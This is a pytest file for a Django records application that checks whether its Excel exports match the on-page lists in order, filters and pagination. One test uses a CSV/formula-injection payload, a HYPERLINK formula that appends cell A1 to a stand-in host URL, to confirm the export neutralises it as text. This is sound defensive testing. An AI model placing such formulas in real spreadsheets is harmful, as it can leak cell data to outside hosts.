"""A list as an Excel file: exactly the rows that the page shows, in its order and its filters."""

import io
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.support.people import PASSWORD, enter
from tests.support.sector import cluster_ten, make_paper, small_sector
from thidua.conferences.actions import plan_conference
from thidua.conferences.enums import ConferenceKind
from thidua.documents.actions import Particulars, register_document
from thidua.documents.enums import DocumentKind
from thidua.kernel import clock
from thidua.kernel.actors import SYSTEM
from thidua.ledger.models import LedgerEntry
from thidua.movements.actions import draft_movement
from thidua.movements.enums import MovementKind, MovementScope
from thidua.org.models import Unit

NOW = clock.moment(date(2024, 3, 1), 9)
FORMULA = '=HYPERLINK("http://example.test/?"&A1,"Xem")'
MANY = 30


@pytest.fixture
def inside(client: Client, db: None) -> Client:
    sector = small_sector()
    cluster_ten(sector.supreme, sector.long_an, year=2023)
    cluster_ten(sector.long_an, sector.ben_luc, year=2024)
    register_document(
        Particulars(kind=DocumentKind.NOTICE, title=FORMULA, issuer_label="Cơ quan Mẫu"),
        actor=SYSTEM,
        at=NOW,
    )
    for year in (2023, 2024):
        draft_movement(
            launcher_id=sector.supreme.pk,
            name=f"Phong trào mẫu {year}",
            year=year,
            kind=MovementKind.REGULAR if year == 2023 else MovementKind.THEMED,
            scope=MovementScope.WHOLE_SECTOR,
            actor=SYSTEM,
            at=NOW,
        )
        plan_conference(
            body_id=sector.supreme.pk,
            name=f"Hội nghị mẫu {year}",
            kinds=[ConferenceKind.LAUNCH],
            day=date(year, 2, 21),
            actor=SYSTEM,
            at=NOW,
        )
    enter("mau", name="Trần Văn Ví Dụ")
    enter("quantri", name="Nguyễn Thị Mẫu", administrator=True)
    client.post("/accounts/login/", {"login": "quantri", "password": PASSWORD})
    return client


@pytest.fixture
def with_many(inside: Client) -> Client:
    """More papers than one page shows."""
    long_an = Unit.objects.get(latest_name="VKSND tỉnh Long An")
    for number in range(1, MANY + 1):
        make_paper(DocumentKind.PLAN, str(number), "KH-VKS", date(2024, 1, number), long_an)
    return inside


def shown(client: Client, address: str, column: str) -> list[str]:
    """What the pages of a list show in a column, one page after another."""
    found = []
    page, pages = 1, 1
    while page <= pages:
        answer = client.get(f"{address}&page={page}")
        assert "format=xlsx" in answer.text
        pages = answer.context["page"].paginator.num_pages
        found += [str(getattr(row, column)) for row in answer.context["rows"]]
        page += 1
    return found


def exported(client: Client, address: str, header: str) -> list[str]:
    """What the Excel file of the same list holds under a header."""
    answer = client.get(f"{address}&format=xlsx&page=2")
    assert answer["Content-Type"].endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    _title, _gap, names, *rows = sheet.iter_rows(values_only=True)
    place = names.index(header)
    return [str(row[place] or "") for row in rows]


@pytest.mark.parametrize(
    ("address", "column", "header", "count"),
    [
        ("/desk/units/?kind=provincial_procuracy&sort=sort_key", "name", "Tên đầy đủ", 2),
        ("/desk/units/?kind=provincial_procuracy&sort=-sort_key", "name", "Tên đầy đủ", 2),
        ("/desk/people/?sort=-sort_key", "full_name", "Họ và tên", 2),
        ("/desk/people/?q=vi+du", "full_name", "Họ và tên", 1),
        ("/desk/clusters/?sort=year", "body", "Cơ quan chủ quản", 2),
        ("/desk/clusters/?year=2024", "body", "Cơ quan chủ quản", 1),
        ("/desk/movements/?sort=year", "name", "Phong trào", 2),
        ("/desk/movements/?kind=themed", "name", "Phong trào", 1),
        ("/desk/documents/?kind=notice", "title", "Trích yếu", 1),
        ("/desk/conferences/?sort=day", "name", "Hội nghị", 2),
        ("/desk/conferences/?q=2023", "name", "Hội nghị", 1),
        ("/desk/ledger/?q=movement", "sentence", "Đã làm gì", 2),
        ("/desk/administration/accounts/?sort=-username", "username", "Tên đăng nhập", 2),
    ],
)
def test_a_file_holds_what_the_page_shows(
    inside: Client, address: str, column: str, header: str, count: int
) -> None:
    on_pages = shown(inside, address, column)
    assert len(on_pages) == count
    assert exported(inside, address, header) == on_pages


def test_a_file_holds_every_page(with_many: Client) -> None:
    for address, column, header in (
        ("/desk/documents/?sort=issued_on&kind=plan", "number", "Số, ký hiệu"),
        ("/desk/documents/?sort=-issued_on&q=KH", "number", "Số, ký hiệu"),
        ("/desk/ledger/?q=KH-VKS", "sentence", "Đã làm gì"),
    ):
        on_pages = shown(with_many, address, column)
        assert len(on_pages) == MANY
        assert exported(with_many, address, header) == on_pages


def test_text_that_begins_like_a_formula_stays_text(inside: Client) -> None:
    answer = inside.get("/desk/documents/?kind=notice&format=xlsx")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cell.data_type == "s"
    assert cell.hyperlink is None


def test_a_ledger_with_erased_entries_says_so(inside: Client) -> None:
    LedgerEntry.objects.filter(verb="person.created").update(content=None, salt=None)
    told = exported(inside, "/desk/ledger/?sort=", "Đã làm gì")
    assert "nội dung đã xóa theo yêu cầu bảo vệ dữ liệu cá nhân" in told
    assert len(told) == LedgerEntry.objects.count()


def test_a_ledger_longer_than_a_sheet_says_so(
    inside: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("thidua.desk.views.audit.MOST_ROWS", 5)
    answer = inside.get("/desk/ledger/?format=xlsx")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert "5 dòng mới nhất trong" in sheet["A1"].value
    assert sheet.max_row == 3 + 5


def test_the_cascade_of_a_movement_has_a_file_too(inside: Client) -> None:
    address = inside.get("/desk/movements/").context["rows"][0].public_id
    assert inside.get(f"/desk/movements/{address}/?format=xlsx").content.startswith(b"PK")
